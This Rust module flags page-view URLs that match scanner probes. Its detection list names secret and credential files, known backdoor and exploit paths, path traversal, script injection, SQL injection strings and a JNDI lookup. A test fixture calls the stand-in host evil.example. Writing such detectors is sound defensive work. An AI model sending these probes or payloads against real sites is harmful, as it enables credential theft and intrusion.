//! Addresses that only scanners ask for.
//!
//! In scope: paths of files that hold secrets, of backdoors and of well-known holes, and texts that attack. Out of scope: pages that people of
//! a site use too, such as `/wp-login.php`.

use std::borrow::Cow;

use crate::event::Event;
use crate::filter::Signal;
use crate::url::decode_param;

/// Parts of a page's address that no page with a tracker has; lower-case.
const PROBES: [&str; 30] = [
    "/.env",
    "/.git/",
    "/.svn/",
    "/.aws/",
    "/.ssh/",
    "/.ds_store",
    "/.htpasswd",
    "/.htaccess",
    "/wp-config",
    "/wp-content/plugins/wp-file-manager",
    "/xmlrpc.php",
    "/phpunit/",
    "/eval-stdin.php",
    "/phpinfo",
    "/cgi-bin/",
    "/boaform/",
    "/hnap1",
    "/actuator/",
    "/solr/admin",
    "/jmx-console",
    "/manager/html",
    "/server-status",
    "/etc/passwd",
    "/../",
    "\\..\\",
    "<script",
    "${jndi:",
    " union select",
    " union all select",
    "' or '1'='1",
];

/// Adds the signal of the page's address, as it was sent.
pub fn check(event: &Event<'_>, signals: &mut Vec<Signal>) {
    if is_probe(decode_param(&event.page_url).as_bytes()) {
        signals.push(Cow::Borrowed("probe:path"));
    }
}

fn is_probe(url: &[u8]) -> bool {
    // Every probe begins with a character that has no case, and few characters of an address are among those.
    let starts = url.iter().enumerate().filter(|(_, byte)| matches!(byte, b'/' | b'\\' | b'<' | b'$' | b' ' | b'\''));
    starts
        .filter_map(|(at, _)| url.get(at..))
        .any(|rest| PROBES.iter().any(|probe| begins_with(rest, probe.as_bytes())))
}

fn begins_with(text: &[u8], lower_case: &[u8]) -> bool {
    text.get(..lower_case.len()).is_some_and(|start| start.eq_ignore_ascii_case(lower_case))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::filter::fixture::signals_of;

    #[test]
    fn every_probe_is_found() {
        for probe in PROBES {
            assert!(is_probe(format!("https://shop.example{}", probe.to_uppercase()).as_bytes()), "{probe}");
        }
    }

    #[test]
    fn what_scanners_ask_for_is_a_signal() {
        for (path, expected) in [
            ("/", &[][..]),
            ("/wp-login.php", &[]),
            ("/blog/etc/password-tips", &[]),
            ("/environment", &[]),
            ("/.env", &["probe:path"]),
            ("/app/.ENV.production", &["probe:path"]),
            ("/.git/config", &["probe:path"]),
            ("/%2e%2e/%2e%2e/etc/passwd", &["probe:path"]),
            ("/search?q=1'%20UNION%20SELECT%20password", &["probe:path"]),
            ("/?x=${jndi:ldap://evil.example/a}", &["probe:path"]),
        ] {
            let json = format!(r#"{{"event_type":"page_view","page_url":"https://shop.example{path}"}}"#);
            assert_eq!(signals_of(&json, check), expected, "{path}");
        }
    }
}
